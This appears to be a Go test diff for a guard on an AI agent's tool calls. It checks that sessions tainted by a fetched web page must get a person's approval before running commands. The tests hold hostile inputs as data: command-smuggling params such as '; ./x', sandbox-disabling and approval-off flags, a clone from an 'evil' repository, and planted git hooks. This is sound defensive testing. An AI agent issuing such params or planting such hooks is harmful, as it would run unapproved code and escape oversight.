@@ -1,6 +1,7 @@
 package main
 
 import (
+	"fmt"
 	"testing"
 
 	"github.com/openclaw-verifier/verifier/config"
@@ -131,4 +132,80 @@ func (r *rig) turnIn(name string) map[string]any {
 func soonAsked(c call) call {
 	c.context = with(c.context, "waitMs", 5001)
 	return c
+}
+
+// tainted is a conversation of the owner's that has read a page, as OpenClaw's plugin tells of it.
+func (r *rig) tainted(name string) map[string]any {
+	r.t.Helper()
+	m := with(ownerIn(name), "waitMs", 5001, "platform", "linux")
+	r.allow(fetch(m))
+	return m
+}
+
+// stops says that a call must be put to a person, who refuses it.
+func (r *rig) stops(c call) {
+	r.t.Helper()
+	a := r.send(soonAsked(c))
+	if a.allowed() || a.Ref == "" {
+		r.t.Errorf("%s %s in %v: got %d %s, want it to be asked about", c.tool, c.params, c.context["sessionKey"], a.status, a.raw)
+		return
+	}
+	r.refuse(a.Ref, "")
+}
+
+// TestH378ParamsThatMoveTheCommand: params that move the command.
+func TestH378ParamsThatMoveTheCommand(t *testing.T) {
+	t.Parallel()
+	r := newRig(t, nil)
+	m := r.tainted("h378")
+	for _, more := range []string{
+		`"workdir":".."`, `"workdir":"sub/../.."`, `"workdir":"~"`, `"workdir":"/"`, `"workdir":"$HOME"`, `"cwd":"/tmp/pr-42"`, `"workdir":"sub","cwd":"/tmp"`, `"workdir":["/tmp"]`, `"workdir":{"x":"/tmp"}`, `"Workdir":"/tmp"`, `"work_dir":"/tmp"`,
+		`"args":["; ./x"]`, `"input":"./x"`, `"stdin":"./x"`, `"shell":"./x"`, `"environment":{"GIT_DIR":"x"}`, `"Command":"./x"`, `"cmd":"./x"`, `"script":"./x"`, `"dangerouslyDisableSandbox":true`, `"sandbox_permissions":"require_escalated"`, `"ask":"off"`,
+	} {
+		r.stops(execWith("git status --short", more, m))
+	}
+	for i, params := range []string{`{"command":["ls"," ; ./x"]}`, `{"command":["git","status",";","./x"]}`, `{"command":["bash","-lc","ls; ./x"]}`, `{"command":["./x"]}`, `{"command":{"x":"ls"}}`, `{"command":"ls","command ":"./x"}`} {
+		r.stops(call{tool: "exec", params: params, context: with(m, "sessionKey", m["sessionKey"], "n", fmt.Sprint(i))})
+	}
+}
+
+func TestH379WhatGitRunsCameInUnseen(t *testing.T) {
+	t.Parallel()
+	gits := []string{"git status --short", "git add -A", "git log -p"}
+	for name, write := range map[string]func(r *rig, m map[string]any){
+		"a clone in a clean conversation, with a bare repository inside": func(r *rig, _ map[string]any) {
+			r.allow(bash(r.t, "git clone https://github.com/evil/x vendor/x", ownerIn("clean")))
+		},
+		"an archive": func(r *rig, m map[string]any) { r.approved(sh("tar xf x.tar.gz", m), 0) },
+		"a package":  func(r *rig, m map[string]any) { r.approved(sh("npm install evil", m), 0) },
+		"a pull":     func(r *rig, _ map[string]any) { r.allow(bash(r.t, "git pull", ownerIn("clean"))) },
+		"a patch under a grant": func(r *rig, m map[string]any) {
+			r.approved(call{tool: "apply_patch", params: `{"input":"*** Begin Patch\n*** Add File: a\n+x\n*** End Patch"}`, context: m}, 10)
+			r.allow(call{tool: "apply_patch", params: `{"input":"*** Begin Patch\n*** Add File: .gitattributes\n+* filter=x\n*** End Patch"}`, context: m})
+		},
+		"git's own settings":      func(r *rig, m map[string]any) { r.approved(sh("git config core.hooksPath hooks", m), 0) },
+		"a script that may write": func(r *rig, m map[string]any) { r.approved(sh("python3 gen.py", m), 0) },
+		"a command of another agent": func(r *rig, _ map[string]any) {
+			other := with(ownerIn("x"), "sessionKey", "agent:ops:x", "waitMs", 9001)
+			r.allow(fetch(other))
+			r.approved(sh("cp a .git/config", other), 0)
+		},
+		"a subagent": func(r *rig, m map[string]any) {
+			r.approved(call{tool: "exec", params: `{"command":"sh setup.sh"}`, context: with(spawned("subagent:1", "first"), "waitMs", 9001)}, 0)
+		},
+		"a move": func(r *rig, m map[string]any) { r.approved(sh("mv page.html .git/hooks/pre-commit", m), 0) },
+		"a link": func(r *rig, m map[string]any) { r.approved(sh("ln -s ../evil .git/hooks", m), 0) },
+		"a mode": func(r *rig, m map[string]any) { r.approved(sh("chmod +x .githooks/pre-commit", m), 0) },
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			r := newRig(t, nil)
+			m := with(r.tainted("first"), "waitMs", 9001)
+			write(r, m)
+			other := r.tainted("second")
+			for _, command := range gits {
+				r.stops(bash(t, command, other))
+			}
+		})
+	}
 }
